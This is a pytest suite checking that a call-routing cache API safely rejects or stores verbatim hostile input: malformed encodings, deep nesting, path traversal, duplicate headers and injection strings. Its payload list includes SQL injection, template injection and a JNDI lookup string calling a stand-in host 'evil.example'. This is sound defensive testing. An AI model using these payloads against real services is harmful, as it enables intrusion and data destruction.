"""Hostile input: a 4xx problem+json and stored data untouched, or, where the hostile text is
a valid value, stored and returned verbatim (which proves it was never interpreted)."""

import json
from urllib.parse import quote

import pytest

from tests.helpers import CALL, DOMAIN, PLATFORM, assert_problem, bearer, calling, make_token
from tests.live_server import send_verbatim, server_on

BASE = f"/cache/{DOMAIN}/ivrfallback"
ENTRY = f"{BASE}/1"
SIPREC = f"/cache/{DOMAIN}/siprecfallback/1"
PLATFORM_ENTRY = f"/platform/{DOMAIN}/siprecfallback/1"
HANGUP = {"mode": "always", "command": {"action": {"type": "hangup"}}}


@pytest.fixture
def seeded(client, auth, platform_auth, stored):
    """One entry per cache, and a check at the end that nothing changed."""
    assert client.post(ENTRY, json={"mode": "onError", "command": {"action": CALL}},
                       headers=auth).status_code == 200
    assert client.post(PLATFORM_ENTRY, json={}, headers=platform_auth).status_code == 200
    before = stored()
    yield
    assert stored() == before


def post_raw(client, headers, content: bytes, path=ENTRY, content_type="application/json"):
    return client.post(path, content=content, headers={**headers, "Content-Type": content_type})


def read_back(client, auth, path=ENTRY):
    response = client.get(path, headers=auth)
    assert response.status_code == 200, response.text
    return response.json()["data"]


# --- bodies that are not UTF-8 --------------------------------------------------------------

HANGUP_TEXT = '{"mode":"always","command":{"action":{"type":"hangup"}}}'


def call_to(dest_addr: bytes) -> bytes:
    return b'{"mode":"always","command":{"action":{"type":"call","destAddr":"' + dest_addr + b'"}}}'


NOT_UTF8 = {
    "latin-1": call_to("é".encode("latin-1")),
    "utf-16": HANGUP_TEXT.encode("utf-16"),
    "utf-32": HANGUP_TEXT.encode("utf-32"),
    "utf-8 with a BOM": HANGUP_TEXT.encode("utf-8-sig"),
    "overlong slash": call_to(b"\xc0\xaf"),
    "encoded surrogate": call_to(b"\xed\xa0\x80"),
    "truncated sequence": call_to(b"sip:\xe2\x82"),
    "lone continuation byte": call_to(b"\x80sip:a@b"),
}


@pytest.mark.parametrize("content", NOT_UTF8.values(), ids=NOT_UTF8)
def test_public_body_that_is_not_utf8_is_400(client, auth, seeded, content):
    assert_problem(post_raw(client, auth, content), 400)


@pytest.mark.parametrize("content", [b'{"expiration":"DAY\xe9"}', '{}'.encode("utf-16")],
                         ids=["latin-1", "utf-16"])
def test_platform_body_that_is_not_utf8_is_400(client, platform_auth, seeded, content):
    assert_problem(post_raw(client, platform_auth, content, PLATFORM_ENTRY), 400)


# --- deep nesting ---------------------------------------------------------------------------


def tts_nested(levels: int) -> bytes:
    """A hangup whose TTS parameters nest `levels` arrays; the body is 5 + levels deep."""
    return (b'{"mode":"always","command":{"action":{"type":"hangup"},'
            b'"phrases":[{"googleTTSParameters":{"a":' + b"[" * levels + b"1" + b"]" * levels
            + b"}}]}}")


DEEP = {
    "arrays 10000 deep": b"[" * 10_000 + b"]" * 10_000,
    "objects 10000 deep": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "tts 10000 deep": tts_nested(10_000),
    "tts 900 deep": tts_nested(900),
    "tts 300 deep": tts_nested(300),
    "tts one level too deep": tts_nested(28),
}


@pytest.mark.parametrize("content", DEEP.values(), ids=DEEP)
def test_deeply_nested_body_is_400(client, auth, seeded, content):
    assert_problem(post_raw(client, auth, content), 400, "nested more than 32 levels")


def test_deeply_nested_platform_body_is_400(client, platform_auth, seeded):
    content = b'{"expiration":' + b"[" * 10_000 + b"]" * 10_000 + b"}"
    assert_problem(post_raw(client, platform_auth, content, PLATFORM_ENTRY), 400, "nested")


def test_nesting_up_to_the_limit_is_stored(client, auth):
    # The limit refuses only what is deeper: 32 levels are a valid value, kept as sent.
    assert post_raw(client, auth, tts_nested(27)).status_code == 200
    phrase = read_back(client, auth)["command"]["phrases"][0]
    assert json.dumps(phrase["googleTTSParameters"]["a"]) == "[" * 27 + "1" + "]" * 27


# --- repeated keys --------------------------------------------------------------------------

REPEATED_KEYS = {
    "mode": b'{"mode":"bogus","mode":"always","command":{"action":{"type":"hangup"}}}',
    # A parser that keeps the first "type" sees a hangup, one that keeps the last a call.
    "action type": b'{"mode":"always","command":{"action":{"type":"hangup","type":"call",'
                   b'"destAddr":"sip:x@evil.example"}}}',
    "tts parameter": b'{"mode":"always","command":{"action":{"type":"hangup"},'
                     b'"phrases":[{"awsTTSParameters":{"Text":"a","Text":"b"}}]}}',
}


@pytest.mark.parametrize("content", REPEATED_KEYS.values(), ids=REPEATED_KEYS)
def test_repeated_keys_are_400(client, auth, seeded, content):
    assert_problem(post_raw(client, auth, content), 400, "repeats the key")


def test_repeated_keys_in_a_platform_body_are_400(client, platform_auth, seeded):
    content = b'{"expiration":"DAY","expiration":"WEEK"}'
    assert_problem(post_raw(client, platform_auth, content, PLATFORM_ENTRY), 400,
                   "repeats the key 'expiration'")


# --- huge numbers, NaN and Infinity ---------------------------------------------------------

HUGE = {
    "1e400": b"1e400",
    "-1e400": b"-1e400",
    "10**400": b"1" + b"0" * 400,
    "-10**400": b"-1" + b"0" * 400,
    "NaN": b"NaN",
    "Infinity": b"Infinity",
    "-Infinity": b"-Infinity",
}


@pytest.mark.parametrize("literal", HUGE.values(), ids=HUGE)
def test_huge_or_non_finite_expiration_is_400(client, auth, seeded, literal):
    content = HANGUP_TEXT.encode().replace(b'"always",', b'"always","expiration":' + literal + b",")
    assert_problem(post_raw(client, auth, content), 400, "expiration")


@pytest.mark.parametrize("literal", HUGE.values(), ids=HUGE)
def test_huge_or_non_finite_platform_expiration_is_400(client, platform_auth, seeded, literal):
    content = b'{"expiration":' + literal + b"}"
    assert_problem(post_raw(client, platform_auth, content, PLATFORM_ENTRY), 400, "expiration")


@pytest.mark.parametrize("literal", HUGE.values(), ids=HUGE)
def test_huge_or_non_finite_ring_time_is_400(client, auth, seeded, literal):
    content = (b'{"mode":"always","command":{"action":{"type":"call","destAddr":"sip:a@b",'
               b'"maxRingTime":' + literal + b"}}}")
    assert_problem(post_raw(client, auth, content), 400, "maxRingTime")


@pytest.mark.parametrize("literal", [b"NaN", b"-Infinity", b"1e400"])
def test_non_finite_number_in_any_field_is_400(client, auth, seeded, literal):
    for content in (b'{"mode":' + literal + b',"command":{"action":{"type":"hangup"}}}',
                    b'{"mode":"always","command":{"action":{"type":' + literal + b"}}}",
                    tts_nested(0).replace(b'"a":1', b'"a":[{"b":' + literal + b"}]")):
        assert_problem(post_raw(client, auth, content), 400)


# Python's json refuses integers over 4300 digits (a ValueError, so far a 500).
DIGITS_5000 = b"1" + b"0" * 5000


def test_integer_over_4300_digits_is_400(client, auth, seeded):
    for content in (HANGUP_TEXT.encode().replace(b"{", b'{"expiration":' + DIGITS_5000 + b",", 1),
                    tts_nested(0).replace(b'"a":1', b'"a":' + DIGITS_5000)):
        assert_problem(post_raw(client, auth, content), 400, "too many digits")


def test_integer_over_4300_digits_in_a_platform_body_is_400(client, platform_auth, seeded):
    content = b'{"expiration":' + DIGITS_5000 + b"}"
    assert_problem(post_raw(client, platform_auth, content, PLATFORM_ENTRY), 400, "too many digits")


def test_huge_integer_in_tts_parameters_is_stored_exactly(client, auth):
    # JSON integers have no size limit: 10**400 is a valid value, kept to the last digit.
    content = tts_nested(0).replace(b'"a":1', b'"a":1' + b"0" * 400)
    assert post_raw(client, auth, content).status_code == 200
    assert read_back(client, auth)["command"]["phrases"][0]["googleTTSParameters"]["a"] == 10**400


# --- NUL, control characters and direction marks --------------------------------------------

BAD_TEXT_BODIES = {
    "NUL in destAddr": calling(destAddr="sip:a\x00@b"),
    "ESC in sipFrom": calling(sipFrom="\x1b[31m"),
    "DEL in sipPAI": calling(sipPAI="a\x7f"),
    "CR LF in a header value": calling(pHeaders={"P-A": "1\r\nP-B: 2"}),
    "NUL in a header name": calling(xHeaders={"X-A\x00": "1"}),
    "direction mark in a header name": calling(xHeaders={"X-\u202eA": "1"}),
    "direction mark in copyHeaders": calling(copyHeaders=["\u202eUser-Agent"]),
    "direction mark in mode": {**HANGUP, "mode": "\u202ealways"},
    "NUL in action type": {**HANGUP, "command": {"action": {"type": "hangup\x00"}}},
    "NUL in a key": {**HANGUP, "mode\x00": "always"},
    "zero-width space in mode": {**HANGUP, "mode": "always\u200b"},
    "NUL and escape in a file name": {**HANGUP, "command": {
        "action": {"type": "hangup"}, "phrases": [{"fileName": "a\x00b\x1b.wav"}]}},
    "trailing newline in a SIP value": calling(sipFrom="<sip:a@b>\n"),
}


@pytest.mark.parametrize("body", BAD_TEXT_BODIES.values(), ids=BAD_TEXT_BODIES)
def test_control_characters_where_the_spec_forbids_them_are_400(client, auth, seeded, body):
    assert_problem(client.post(ENTRY, json=body, headers=auth), 400)


def test_control_characters_in_free_text_are_kept_verbatim(client, auth):
    # Valid values: the spec allows any text in TTS parameters, and direction marks
    # (not control characters) in SIP values and file names. Stored exactly as sent.
    command = {
        "action": {**CALL, "destAddr": "sip:\u202emoc.elpmaxe@evil", "sipTo": "\u200f<sip:b@c>"},
        "phrases": [{"fileName": "a\u202eb.wav"},
                    {"googleTTSParameters": {"text": "\x00\r\n\t\u202e\ufeff\x7f", "\x00": "k"}}],
    }
    assert client.post(ENTRY, json={"mode": "always", "command": command},
                       headers=auth).status_code == 200
    assert read_back(client, auth)["command"] == command


BAD_PATHS = [
    f"/cache/{DOMAIN}/ivrfallback/%E2%80%AE1",  # right-to-left override
    f"/cache/{DOMAIN}/ivrfallback/%E2%80%8F1",  # right-to-left mark
    f"/cache/{DOMAIN}/ivrfallback/%E2%80%8B1",  # zero-width space
    f"/cache/{DOMAIN}/ivrfallback/%EF%BB%BF1",  # byte order mark
    f"/cache/{DOMAIN}/ivrfallback/%FF",  # not UTF-8
    f"/cache/{DOMAIN}/ivrfallback/%ED%A0%80",  # an encoded surrogate
    f"/cache/{DOMAIN}/ivrfallback/1%1B",  # escape
    f"/cache/{DOMAIN}/ivrfallback/1%09",  # tab
    f"/cache/{DOMAIN}%E2%80%8F/ivrfallback",
    f"/cache/{DOMAIN}%00/ivrfallback",
    f"/cache/{DOMAIN}/siprecfallback/%E2%80%AE1",
    f"/cache/{DOMAIN}/siprecfallback/1%00",
]


@pytest.mark.parametrize("path", BAD_PATHS)
def test_bad_characters_in_paths_are_400(client, auth, seeded, path):
    methods = ("get", "options") if path.endswith("/ivrfallback") else ("get", "delete", "options")
    for method in methods:
        assert_problem(client.request(method, path, headers=auth), 400)


@pytest.mark.parametrize("path", ["/platform/example.com/siprecfallback/%E2%80%AE1",
                                  "/platform/example.com/siprecfallback/1%00",
                                  "/platform/example.com%E2%80%8F/siprecfallback/1"])
def test_bad_characters_in_platform_paths_are_400(client, platform_auth, seeded, path):
    assert_problem(client.post(path, json={}, headers=platform_auth), 400)


# --- percent-encoded slashes and traversal ---------------------------------------------------

# Not double-encoded ones (%252F): Starlette's test client decodes paths twice, where
# uvicorn decodes once (a literal '%2F', then refused by the number pattern).
ENCODED_SLASHES = [
    f"{BASE}/a%2Fb",
    f"{BASE}/a%2fb",
    f"{BASE}/..%2F..%2Fother.example%2Fivrfallback",
    f"/cache/{DOMAIN}%2F..%2Fother.example/ivrfallback",
    f"/cache/{DOMAIN}/ivrfallback%2F1",
    f"{BASE}/a%5Cb",
]


@pytest.mark.parametrize("path", ENCODED_SLASHES)
def test_percent_encoded_slashes_are_400(client, auth, seeded, path):
    for method, body in (("get", None), ("post", HANGUP), ("delete", None)):
        assert_problem(client.request(method, path, json=body, headers=auth), 400)


def test_an_encoded_slash_is_not_a_separator(client, auth, seeded):
    # Decoded, `ivrfallback%2F1` would name the seeded entry `1`.
    assert_problem(client.get(f"{BASE}%2F1", headers=auth), 400, "encoded slash")
    assert_problem(client.delete(f"{BASE}%2F1", headers=auth), 400, "encoded slash")


def test_an_encoded_traversal_does_not_reach_another_domain(client, auth):
    other = bearer(make_token(domains=["other.example"]))
    assert client.post("/cache/other.example/ivrfallback/1", json=HANGUP,
                       headers=other).status_code == 200
    for path in (f"{BASE}/..%2F..%2Fother.example%2Fivrfallback%2F1",
                 f"/cache/{DOMAIN}%2F..%2Fother.example/ivrfallback/1"):
        assert_problem(client.get(path, headers=auth))


# --- overlong paths and headers -------------------------------------------------------------

LONG = "1" * 10_240


@pytest.mark.parametrize("path, parameter", [
    (f"{BASE}/{LONG}", "number"),
    (f"/cache/{DOMAIN}/siprecfallback/{LONG}", "number"),
    (f"/cache/{'a' * 10_240}.com/ivrfallback", "domain"),
    (f"/cache/{'a.' * 5_120}com/ivrfallback/1", "domain"),
])
def test_a_10_kib_path_is_400(client, auth, seeded, path, parameter):
    assert_problem(client.get(path, headers=auth), 400, parameter)


def test_a_10_kib_platform_path_is_400(client, platform_auth, seeded):
    response = client.post(f"/platform/{DOMAIN}/siprecfallback/{LONG}", json={},
                           headers=platform_auth)
    assert_problem(response, 400, "number")


@pytest.mark.parametrize("authorization", [
    "Bearer " + "a" * 10_240,
    "Bearer eyJhbGciOiJIUzI1NiJ9." + "e" * 10_240 + ".s",
    "Bearer " + make_token(key="another-secret-that-is-long-enough-0123456789", pad="p" * 10_240),
    "Basic " + "a" * 10_240,
])
def test_a_10_kib_authorization_header_is_401(client, seeded, authorization):
    assert_problem(client.get(BASE, headers={"Authorization": authorization}), 401)


def test_a_10_kib_token_that_is_well_signed_is_refused_by_its_size(client, seeded):
    # Issue 22: tokens over 8 KiB are refused before verifying (tests/api/test_token_limits.py);
    # a big claim within that size is no attack, the signature is what counts.
    assert client.get(BASE, headers=bearer(make_token(pad="p" * 5_000))).status_code == 200
    assert_problem(client.get(BASE, headers=bearer(make_token(pad="p" * 10_240))), 401, "8192 bytes")


def test_a_10_kib_content_type_is_415(client, auth, seeded):
    response = post_raw(client, auth, json.dumps(HANGUP).encode(), content_type="x" * 10_240)
    assert_problem(response, 415)


def test_a_10_kib_request_id_is_not_echoed(client, auth):
    # Any header may be long; this one would be echoed, so it is replaced instead.
    response = client.get(BASE, headers={**auth, "X-Request-ID": "a" * 10_240})
    assert response.status_code == 200
    assert len(response.headers["x-request-id"]) <= 128


# --- SQL-like and template-like text --------------------------------------------------------

INJECTIONS = ["' OR 1=1 --", "1; DROP TABLE ivr_fallback; --", "\" OR \"\"=\"", "{{7*7}}",
              "${7*7}", "${jndi:ldap://evil.example/a}", "<%= 7*7 %>", "#{7*7}", "*/*", "%s%n"]


@pytest.mark.parametrize("text", INJECTIONS)
def test_injections_in_a_number_are_400(client, auth, seeded, text):
    number = quote(text, safe="")
    for path in (f"{BASE}/{number}", f"/cache/{DOMAIN}/siprecfallback/{number}"):
        assert_problem(client.get(path, headers=auth), 400)


@pytest.mark.parametrize("text", INJECTIONS)
def test_injections_in_a_domain_are_400(client, seeded, text):
    everything = bearer(make_token(domains=["*"]))
    response = client.get(f"/cache/{quote(text, safe='')}.com/ivrfallback", headers=everything)
    assert_problem(response, 400)


@pytest.mark.parametrize("text", INJECTIONS)
def test_injections_in_enums_and_expiration_are_400(client, auth, seeded, text):
    for body, field in (({**HANGUP, "mode": text}, "mode"),
                        ({**HANGUP, "command": {"action": {"type": text}}}, "type"),
                        ({**HANGUP, "expiration": text}, "expiration")):
        assert_problem(client.post(ENTRY, json=body, headers=auth), 400, field)


@pytest.mark.parametrize("text", INJECTIONS)
def test_injections_in_text_values_are_stored_verbatim(client, auth, text):
    # Valid values: SIP values and TTS text may hold any printable text. Reading back
    # the very same string (not 49, not a lookup result) proves nothing interpreted it.
    command = {
        "action": {**CALL, "destAddr": text, "sipFrom": text, "xHeaders": {"X-Note": text}},
        "phrases": [{"awsTTSParameters": {"Text": text, text: text}}, {"fileName": text}],
    }
    assert client.post(ENTRY, json={"mode": "always", "command": command},
                       headers=auth).status_code == 200
    assert read_back(client, auth)["command"] == command
    assert client.get(BASE, headers=auth).json() == {"data": ["1"], "success": True}


@pytest.mark.parametrize("pattern", ["_", "%", "1_", "1%", "*", ".*", "1*"])
def test_numbers_are_never_patterns(client, auth, pattern):
    # '_' and '*' are number characters; they must match only themselves (no LIKE, no glob).
    assert client.post(f"{BASE}/12", json=HANGUP, headers=auth).status_code == 200
    path = f"{BASE}/{quote(pattern, safe='')}"
    assert client.get(path, headers=auth).status_code in (400, 404)
    assert client.delete(path, headers=auth).status_code in (400, 404)
    assert client.get(f"{BASE}/12", headers=auth).status_code == 200


def test_injections_in_query_strings_are_400(client, auth, seeded):
    response = client.get(f"{BASE}?number={quote(INJECTIONS[0])}", headers=auth)
    assert_problem(response, 400, "number")


def test_injections_in_domain_claims_grant_nothing(client, seeded):
    for claim in INJECTIONS:
        response = client.get(BASE, headers=bearer(make_token(domains=[claim])))
        assert_problem(response, 403)


def test_platform_rejects_injections_as_expiration(client, seeded):
    token = bearer(make_token(scopes=(PLATFORM,)))
    for text in INJECTIONS:
        response = client.post(PLATFORM_ENTRY, json={"expiration": text}, headers=token)
        assert_problem(response, 400, "expiration")


# --- paths with more than one spelling, on the real server ----------------------------------

# Sent verbatim by a real gunicorn: httpx and Starlette's test client would collapse `//`,
# read `//cache` as a host, or remove dot segments before anything reached the service.
METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS")
SPELLINGS = {
    "repeated slash": [
        "//cache/example.com/ivrfallback/1", "///cache/example.com/ivrfallback/1",
        "/cache//example.com/ivrfallback/1", "/cache/example.com//ivrfallback/1",
        "/cache/example.com/ivrfallback//1", "/cache/example.com/ivrfallback//",
        "//cache/example.com/siprecfallback/1", "//platform/example.com/siprecfallback/1",
        "/platform/example.com//siprecfallback/1", "//healthz", "//metrics", "//readyz", "//",
        "//cache/ui/", "http://evil.example//cache/example.com/ivrfallback/1",
    ],
    "ends with a slash": [
        "/cache/example.com/ivrfallback/1/", "/cache/example.com/ivrfallback/",
        "/cache/example.com/siprecfallback/1/", "/platform/example.com/siprecfallback/1/",
        "/cache/", "/healthz/", "/metrics/", "/cache/openapi.json/",
    ],
    "percent-encodes": [
        "/%63ache/example.com/ivrfallback/1", "/cache/%65xample.com/ivrfallback/1",
        "/cache/example.com/ivrfallback/%31", "/cache/example.com/ivrfallback/1%2d",
        "/%6Detrics", "/healthz%7E", "/platform/example.com/siprecfallback/%31",
    ],
    "control characters": [
        "/cache/example.com/ivrfallback/1%00", "/healthz%00", "/cache/example.com%0A/ivrfallback",
    ],
    "not a path": ["*"],
}
CASES = [(path, mention) for mention, paths in SPELLINGS.items() for path in paths]


@pytest.fixture(scope="module")
def live(database_url, tmp_path_factory):
    """The production server on the tests' database, one worker."""
    with server_on(database_url, tmp_path_factory.mktemp("live"), workers=1) as server:
        yield server


def verbatim(live, method: str, target: str, headers=(), token: str | None = None,
             host: str = "127.0.0.1"):
    """One request, with a body for the methods that carry one (a hangup, which differs
    from the seeded entry), as sent on the wire."""
    headers = [("Host", host), *headers]
    if token is not None:
        headers.append(("Authorization", f"Bearer {token}"))
    body = json.dumps(HANGUP).encode() if method in ("POST", "PUT", "PATCH") else b""
    if body:
        headers += [("Content-Type", "application/json"), ("Content-Length", str(len(body)))]
    return send_verbatim(live, method, target, headers, body)


def assert_refused(response, method: str, status: int, mention: str) -> None:
    """A problem+json refusal, never a redirect; HEAD answers carry no body to read."""
    assert "location" not in response.headers
    if method == "HEAD":
        assert response.status_code == status
        assert response.headers["content-type"] == "application/problem+json"
    else:
        assert_problem(response, status, mention)


@pytest.mark.parametrize("path, mention", CASES, ids=[path for path, _ in CASES])
def test_a_path_with_another_spelling_is_400_for_every_method(live, seeded, path, mention):
    token = make_token(domains=["*"], scopes=("cache/read", "cache/write", PLATFORM))
    for method in METHODS:
        for bearer_token in (token, None):
            assert_refused(verbatim(live, method, path, token=bearer_token), method, 400, mention)


# No layer here removes dot segments, cuts `;...` off a segment (as Tomcat does) or reads
# `\` as `/` (as browsers do): they are ordinary segments and characters, judged by the
# pattern of a domain or a number (which the answer names), and matching no other route.
NOT_SEPARATORS = [
    ("/cache/example.com/ivrfallback/1;a=b", 400, "number"),
    ("/cache/example.com/ivrfallback/1%3Bx", 400, "number"),
    ("/cache/example.com;x/ivrfallback/1", 400, "domain"),
    ("/cache/example.com/ivrfallback/1\\", 400, "number"),
    ("/cache/example.com/ivrfallback/1%5C", 400, "number"),
    ("/cache/example.com\\/ivrfallback/1", 400, "domain"),
    ("/cache/../ivrfallback/1", 400, "domain"),
    ("/cache/;x/ivrfallback/1", 400, "domain"),
    ("/cache/other.example/../example.com/ivrfallback/1", 404, ""),
    ("/cache;x/example.com/ivrfallback/1", 404, ""),
    ("/cache/example.com\\ivrfallback/1", 404, ""),
    ("/cache/example.com/./ivrfallback/1", 404, ""),
    ("/cache/example.com/x/../ivrfallback/1", 404, ""),
    ("/cache/../metrics", 404, ""),
    ("/./healthz", 404, ""),
    ("/cache/example.com/x/%2e%2e/ivrfallback/1", 404, ""),
    ("/cache/example.com/%2e/ivrfallback/1", 404, ""),
    ("/%2E/healthz", 404, ""),
    ("/metrics;x", 404, ""),
    ("/healthz\\", 404, ""),
]


@pytest.mark.parametrize("path, status, mention", NOT_SEPARATORS,
                         ids=[path for path, _, _ in NOT_SEPARATORS])
def test_dots_semicolons_and_backslashes_separate_nothing(live, seeded, path, status, mention):
    token = make_token(domains=["*"], scopes=("cache/read", "cache/write", PLATFORM))
    for method in ("GET", "HEAD", "DELETE"):
        assert_refused(verbatim(live, method, path, token=token), method, status, mention)
    for method in ("POST", "OPTIONS", "PUT", "PATCH"):
        response = verbatim(live, method, path, token=token)
        assert response.status_code in (status, 404, 405), (method, response.text)
        assert_refused(response, method, response.status_code, "")


@pytest.mark.parametrize("number, spelling", [(".", "."), ("..", ".."), (".", "%2E"),
                                              ("..", "%2e%2E")])
def test_dot_numbers_are_numbers(live, auth, number, spelling):
    # The contract's characters make `.` and `..` numbers; no layer here reads them as dot
    # segments. Curl and browsers remove literal ones, so clients send them as `%2E`.
    token = auth["Authorization"].split()[1]
    path = f"{BASE}/{spelling}"
    assert_problem(verbatim(live, "GET", path, token=token), 404, f"No IVR fallback for '{number}'")
    assert verbatim(live, "POST", path, token=token).status_code == 200
    assert verbatim(live, "GET", path, token=token).json()["data"]["command"] == HANGUP["command"]
    assert verbatim(live, "GET", BASE, token=token).json()["data"] == [number]
    assert verbatim(live, "DELETE", path, token=token).status_code == 200


def test_the_canonical_spelling_still_answers(live, seeded, auth):
    # The rules refuse only other spellings: these are the paths they were tested against.
    token = auth["Authorization"].split()[1]
    for path, status in ((ENTRY, 200), (SIPREC, 200), (f"{BASE}/%23", 404), (f"{BASE}/a%2Bb", 404),
                         ("/healthz", 200), ("/metrics", 200), ("/cache/ui/", 200),
                         ("/platform/ui/", 200), ("/cache/openapi.json", 200)):
        assert verbatim(live, "GET", path, token=token).status_code == status, path
    assert verbatim(live, "OPTIONS", BASE).status_code == 200


def test_the_swagger_ui_redirect_stays_on_this_server(live):
    response = verbatim(live, "GET", "/cache/ui")
    assert response.status_code == 307
    assert response.headers["location"] == "/cache/ui/"


@pytest.mark.parametrize("path", ["/cache", "/platform"])
def test_a_base_path_is_404_not_a_redirect_to_the_host_header(live, seeded, path):
    # Starlette would redirect to http://<Host>/cache/: another site, for a spoofed Host.
    for method in METHODS:
        assert_refused(verbatim(live, method, path, host="evil.example"), method, 404,
                       "Nothing is served")


@pytest.mark.parametrize("path", [
    "/CACHE/example.com/ivrfallback/1", "/Cache/example.com/ivrfallback", "/cache/example.com/IVRFALLBACK/1",
    "/cache/example.com/SipRecFallback/1", "/PLATFORM/example.com/siprecfallback/1", "/HEALTHZ", "/Metrics",
])
def test_paths_are_case_sensitive_except_the_domain(live, seeded, auth, path):
    token = auth["Authorization"].split()[1]
    for method in METHODS:
        response = verbatim(live, method, path, token=token)
        assert response.status_code in (404, 405), (method, response.text)
        assert_refused(response, method, response.status_code, "")
    assert verbatim(live, "GET", "/cache/EXAMPLE.com/ivrfallback/1", token=token).status_code == 200


def test_an_overlong_path_is_400_and_a_path_over_the_target_limit_414(live, seeded, auth):
    token = auth["Authorization"].split()[1]
    assert_problem(verbatim(live, "GET", f"{BASE}/{'1' * 5_000}", token=token), 400, "number")
    # Over 8 KiB the server refuses the target before the app (tests/test_request_heads.py).
    for length in (20_000, 70_000):
        response = verbatim(live, "DELETE", f"{BASE}/{'1' * length}", token=token)
        assert_problem(response, 414, "8 KiB")


# --- headers sent twice ---------------------------------------------------------------------

OTHER_DOMAIN_TOKEN = make_token(domains=["other.example"])
# (method, path, body) for every kind of operation, the preflight and an operator endpoint.
EVERY_KIND = [("GET", ENTRY, None), ("POST", ENTRY, HANGUP), ("DELETE", ENTRY, None),
              ("DELETE", SIPREC, None), ("POST", PLATFORM_ENTRY, {}), ("OPTIONS", ENTRY, None),
              ("GET", "/healthz", None), ("GET", "/metrics", None)]


def twice(client, method, path, body, name, first, second, extra=()):
    """A request carrying the header `name` twice (a token fit for every operation besides)."""
    token = bearer(make_token(scopes=("cache/read", "cache/write", PLATFORM)))
    headers = [(key, value) for key, value in token.items() if key.lower() != name.lower()]
    headers += [*extra, (name, first), (name, second)]
    content = json.dumps(body).encode() if body is not None else None
    if content is not None and name.lower() != "content-type":
        headers.append(("Content-Type", "application/json"))
    return client.request(method, path, content=content, headers=headers)


@pytest.mark.parametrize("first, second", [
    ("valid", "Bearer garbage"), ("Bearer garbage", "valid"), ("valid", "valid"),
    ("valid", "Basic YTpi"), ("valid", ""), ("valid", "other domain"), ("other domain", "valid"),
], ids=repr)
@pytest.mark.parametrize("method, path, body", EVERY_KIND, ids=[f"{m} {p}" for m, p, _ in EVERY_KIND])
def test_two_authorization_headers_are_400(client, seeded, method, path, body, first, second):
    # A proxy in front may check one and this service use the other: neither is trusted.
    token = make_token(scopes=("cache/read", "cache/write", PLATFORM))
    values = {"valid": f"Bearer {token}", "other domain": f"Bearer {OTHER_DOMAIN_TOKEN}"}
    response = twice(client, method, path, body, "Authorization",
                     values.get(first, first), values.get(second, second))
    assert_problem(response, 400, "more than one Authorization header")
    assert response.headers["www-authenticate"] == 'Bearer error="invalid_request"'


@pytest.mark.parametrize("query", ["access_token=x", "access_token=", "access%5Ftoken=x",
                                   "a=1&access_token=x"])
@pytest.mark.parametrize("method, path, body", EVERY_KIND, ids=[f"{m} {p}" for m, p, _ in EVERY_KIND])
def test_a_token_in_the_query_string_is_400(client, seeded, auth, method, path, body, query):
    # RFC 6750 allows it; here the header is the one way, with a token or without.
    for headers in (auth, {}):
        response = client.request(method, f"{path}?{query}", json=body, headers=headers)
        assert_problem(response, 400, "only in the Authorization header")


def test_a_token_in_the_query_string_as_well_as_the_header_is_400(client, seeded):
    token = make_token(scopes=("cache/read", "cache/write"))
    response = client.post(f"{ENTRY}?access_token={token}", json=HANGUP, headers=bearer(token))
    assert_problem(response, 400, "access_token")


@pytest.mark.parametrize("name, first, second", [
    ("Content-Type", "application/json", "text/plain"),
    ("Content-Type", "text/plain", "application/json"),
    ("Content-Type", "application/json", "application/json"),
    ("Content-Length", "2", "3"),
    ("Content-Length", "2", "2"),
    ("Origin", "https://a.example", "https://evil.example"),
    ("Host", "127.0.0.1", "evil.example"),
])
@pytest.mark.parametrize("method, path, body", EVERY_KIND, ids=[f"{m} {p}" for m, p, _ in EVERY_KIND])
def test_other_headers_that_change_meaning_are_400_twice(client, seeded, method, path, body,
                                                         name, first, second):
    # Two Content-Types were a 500; with two Content-Lengths or Origins, one reader
    # would take the first, another the last.
    if name == "Content-Length":
        body = {}  # two bytes, which the first Content-Length says
    response = twice(client, method, path, body, name, first, second)
    assert_problem(response, 400, f"more than one {name} header")


def test_two_request_ids_are_both_replaced(client, auth):
    # Not refused: a proxy may add its own id to a client's. Trusting neither, the answer
    # (and the log line) carries a new one.
    response = client.get(BASE, headers=[*auth.items(), ("X-Request-ID", "client-1"),
                                         ("X-Request-ID", "proxy-2")])
    assert response.status_code == 200
    assert response.headers["x-request-id"] not in ("client-1", "proxy-2")
    assert len(response.headers["x-request-id"]) == 32


def test_two_authorization_headers_on_the_wire_write_nothing(live, seeded, auth):
    # The reported case, as bytes on a socket: a valid token, then a garbage one.
    token = auth["Authorization"].split()[1]
    response = verbatim(live, "POST", ENTRY, token=token, headers=[("Authorization", "garbage")])
    assert_problem(response, 400, "more than one Authorization header")
    response = verbatim(live, "DELETE", ENTRY, token=token,
                        headers=[("Authorization", f"Bearer {OTHER_DOMAIN_TOKEN}")])
    assert_problem(response, 400, "more than one Authorization header")


HANGUP_BYTES = json.dumps(HANGUP).encode()
SIZE = str(len(HANGUP_BYTES))


@pytest.mark.parametrize("lengths", [(SIZE, "3"), (SIZE, SIZE), (f"{SIZE}, {SIZE}",)], ids=repr)
def test_two_content_lengths_on_the_wire_are_refused_by_the_server(live, seeded, auth, lengths):
    # uvicorn's HTTP parser (httptools) refuses them before the service sees the request: a
    # plain-text 400, which it cannot make problem+json (the test client reaches the guard).
    headers = [("Host", "127.0.0.1"), *auth.items(), ("Content-Type", "application/json"),
               *(("Content-Length", length) for length in lengths)]
    response = send_verbatim(live, "POST", ENTRY, headers, HANGUP_BYTES)
    assert response.status_code == 400
